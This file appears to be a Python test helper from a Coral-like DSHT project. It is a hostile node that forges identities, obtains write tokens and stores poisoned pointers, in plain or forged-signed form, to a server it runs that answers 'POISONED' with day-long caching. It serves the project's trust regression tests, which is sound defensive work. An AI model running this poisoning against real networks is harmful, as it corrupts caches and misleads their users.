#!/usr/bin/env python3
"""A hostile DSHT participant (issue 22, attack 1), for shards/tests/trust.rs.

It runs no coral node: it only speaks the DSHT's wire protocol (version 1,
src/dsht/wire.rs). From IP, port 7000 (its node id is SHA-1 of the IP, as
the id binding requires) it answers pings (and answers Hellos with a forged
identity), sends each target a put-probe for KEY to get a write token, then
a store of a pointer to itself under KEY at level 0 with a one-day TTL. On
IP:8090 it serves every request 200 "POISONED" with max-age=86400, and
appends each request line to LOG.

usage: dsht_poisoner.py IP KEY_HEX TARGET[,TARGET...] LOG plain|signed

"plain": the pointer is a bare address (Value::from_addr), what any pointer
was before issue 22. "signed": the signed-pointer layout (tag 0xc1) with a
key, certificate and signature of its own making: a forgery.
It prints "stored N" once N stores were accepted, then serves until killed.
"""

import hashlib
import http.server
import os
import socket
import struct
import sys
import threading
import time

PING, PUT_PROBE, STORE, HELLO, REPLY = 0x01, 0x04, 0x05, 0x07, 0x80
IDENTITY_BYTES = 161


def main():
    ip, key_hex, targets, log, mode = sys.argv[1:6]
    key = bytes.fromhex(key_hex)
    targets = [(t.rsplit(":", 1)[0], int(t.rsplit(":", 1)[1])) for t in targets.split(",")]
    my_id = hashlib.sha1(socket.inet_aton(ip)).digest()
    serve_http(ip, log)

    plain = b"\x04" + socket.inet_aton(ip) + struct.pack(">H", 8090)
    value = plain if mode == "plain" else b"\xc1\x00" + plain + os.urandom(32 + 64 + 64)

    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((ip, 7000))
    udp.settimeout(0.2)
    txid = [100]

    def header(kind, route, t):
        return struct.pack(">BBHI", 1, kind, route, t) + my_id + bytes([0, 0])

    def answer(data, frm):
        """Answers a request (a ping or a Hello); returns the body of a reply."""
        if len(data) < 30:
            return None
        kind = data[1]
        route, t = struct.unpack(">HI", data[2:8])
        if kind == PING:
            udp.sendto(header(PING | REPLY, route, t), frm)
        elif kind == HELLO:
            # A forged identity: its own key and signatures, no certificate.
            udp.sendto(header(HELLO | REPLY, route, t) + b"\x01" + os.urandom(IDENTITY_BYTES - 1), frm)
        elif kind & REPLY:
            n = data[29]
            return kind, t, data[30 + 28 * n:]
        return None

    def rpc(to, kind, body, deadline=10.0):
        txid[0] += 1
        t = txid[0]
        route = struct.unpack(">H", key[:2])[0]
        msg = header(kind, route, t) + body
        end = time.monotonic() + deadline
        last = 0.0
        while time.monotonic() < end:
            if time.monotonic() - last > 1.0:
                udp.sendto(msg, to)
                last = time.monotonic()
            try:
                data, frm = udp.recvfrom(65535)
            except socket.timeout:
                continue
            r = answer(data, frm)
            if r and r[1] == t and frm == to:
                return r[0], r[2]
        return None, None

    stored = 0
    for to in targets:
        kind, body = rpc(to, PUT_PROBE, b"\x00" + key + key)
        if kind != PUT_PROBE | REPLY:
            continue
        # level, loaded, stay (minutes), value count (2), min TTL (4), token (8)
        token = body[9:17]
        store = b"\x00" + key + struct.pack(">I", 86400) + b"\x00" + token + bytes([len(value)]) + value
        kind, body = rpc(to, STORE, store)
        if kind == STORE | REPLY and body[1] == 1:
            stored += 1
    print(f"stored {stored}", flush=True)
    udp.settimeout(None)
    while True:
        data, frm = udp.recvfrom(65535)
        answer(data, frm)


def serve_http(ip, log):
    class Poison(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            with open(log, "a") as f:
                f.write(self.requestline + "\n")
            body = b"POISONED"
            self.send_response(200)
            self.send_header("Cache-Control", "max-age=86400")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer((ip, 8090), Poison)
    threading.Thread(target=server.serve_forever, daemon=True).start()


if __name__ == "__main__":
    main()
